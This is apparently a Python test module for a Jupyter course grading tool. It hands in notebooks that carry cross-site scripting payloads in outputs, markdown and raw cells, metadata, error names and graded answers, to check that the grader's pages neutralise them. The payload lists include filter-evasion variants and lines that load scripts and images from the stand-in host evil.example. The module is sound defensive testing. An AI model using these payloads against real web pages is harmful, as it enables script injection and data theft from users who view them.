"""Submissions that carry scripts wherever a page could show them: tried as text, and in a real browser."""

from __future__ import annotations

from course_for_tests.handing_in import hands_in
from nbformat.v4 import new_markdown_cell, new_raw_cell

EVIL = [
    "<script>alert('evil')</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert('evil')>",
    "<svg onload=alert('evil')><script>alert('evil')</script></svg>",
    "<a href='javascript:alert(1)'>evil</a>",
    "<a href=' java\nscript:alert(1)'>evil</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>evil</a>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,evil'></object><embed src='evil.swf'>",
    "<form action='https://evil.example'><button formaction='javascript:x'>x</button></form>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'><base href='https://evil.example'>",
    "<style>body { background: url(javascript:alert(1)) }</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<math><a xlink:href='javascript:alert(1)'>evil</a></math>",
    "<details open ontoggle=alert('evil')>evil</details>",
    "</pre></div><script>alert('evil')</script>",
    "<scr<script>ipt>alert('evil')</scr</script>ipt>",
    "<p style='background:url(javascript:alert(1));position:fixed;top:0'>evil</p>",
]
MARKDOWN = [
    *EVIL,
    "[evil](javascript:alert(1))",
    '![evil](x" onerror="alert(1))',
    "<javascript:alert(1)>",
    "[evil]: javascript:alert(1)\n[evil]",
    # harmless in the first rendering, not in the second
    '<img src="x" alt="a&#10; &#10;b"> <i title=" onerror=alert(1) x=">c</i> ',
    "`<img src=x onerror=alert(1)>`",
    "&lt;img src=x onerror=alert(1)&gt;",
    "<a href='files/javascript:alert(1)'>evil</a>",  # nbconvert takes `files/` away
    "# csat\n\n<p id=csat name=csat>x</p>",  # the id of the formgrader's field
    "![evil](https://evil.example/who.png) <img src=//evil.example/who.png>",
    r"$\href{javascript:alert(1)}{evil}$ \(\cssId{csat}{evil}\)",
]


@hands_in
def scripts_in_outputs(handout):
    return handout.solved_with(f"""
from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display
for evil in {EVIL!r}:
    display(HTML(evil), Latex(evil))
    display({{"text/plain": evil}}, raw=True)
    svg = "<svg xmlns='http://www.w3.org/2000/svg'>" + evil + "</svg>"
    display({{"image/svg+xml": svg}}, raw=True)
    display({{"image/png": '"' + "'>" + evil}}, raw=True)
    display({{"application/javascript": "alert(1)", "text/html": evil}}, raw=True)
    display({{"application/vnd.jupyter.widget-view+json": {{"model_id": evil}}}}, raw=True)
    about = {{"image/jpeg": {{"alt": evil, "width": evil, "height": evil}}}}
    display({{"image/jpeg": "x"}}, raw=True, metadata=about)
    display({{"text/html": evil}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
    print(evil)
for evil in {MARKDOWN!r}:
    display(Markdown(evil))
display(Javascript("alert('evil')"))
""")


@hands_in
def scripts_in_markdown(handout):
    notebook = handout.solved()
    notebook.cells += [new_markdown_cell(evil, id=f"evil-{number}") for number, evil in enumerate(MARKDOWN)]
    return notebook


@hands_in
def scripts_in_raw_cells(handout):
    notebook = handout.solved()
    for number, evil in enumerate(EVIL):
        notebook.cells.append(
            new_raw_cell(evil, id=f"evil-{number}", metadata={"raw_mimetype": "text/html", "format": "text/html"})
        )
    return notebook


@hands_in
def scripts_in_metadata(handout):
    return with_metadata(handout.solved())


def with_metadata(notebook):
    evil = "\"'></div><script>alert('evil')</script><div class='"
    notebook.metadata.language_info = {"name": evil, "pygments_lexer": evil, "codemirror_mode": evil, "mimetype": evil}
    notebook.metadata.kernelspec = {"name": evil, "display_name": evil, "language": evil}
    notebook.metadata.update(title=evil, authors=[{"name": evil}])
    for cell in notebook.cells:
        cell.metadata.update(tags=[evil], name=evil, alt=evil)
    return notebook


@hands_in
def scripts_in_errors(handout):
    return handout.solved_with(f"""
class Evil(Exception):
    pass
Evil.__name__ = Evil.__qualname__ = {EVIL[0]!r}
raise Evil({"".join(EVIL)!r})
""")


@hands_in
def scripts_in_answers(handout):
    """Answers are repeated in messages."""
    return handout.solved_but(
        csat=f"csat = {EVIL[0]!r}",
        nps=f"type({EVIL[2]!r}, (), {{}})\nnps = type({EVIL[2]!r}, (), {{}})()",
        first_step=f"first_step = {EVIL[2]!r}",
        ratings=f"ratings = pd.DataFrame({{{EVIL[2]!r}: [1]}})",
        share_of=f"def share_of(scores, least):\n    raise ValueError({EVIL[2]!r})",
    )


def scripts_everywhere(handout):
    """All of the above in one submission: for pages that are costly to open."""
    notebook = scripts_in_answers(handout)
    own = {cell.id for cell in notebook.cells}
    for place in (scripts_in_outputs, scripts_in_markdown, scripts_in_raw_cells, scripts_in_errors):
        for number, cell in enumerate(cell for cell in place(handout).cells if cell.id not in own):
            cell.id = f"{place.__name__}-{number}"
            notebook.cells.append(cell)
    return with_metadata(notebook)


LEARNERS = [
    "scripts_in_outputs",
    "scripts_in_markdown",
    "scripts_in_raw_cells",
    "scripts_in_metadata",
    "scripts_in_errors",
    "scripts_in_answers",
]
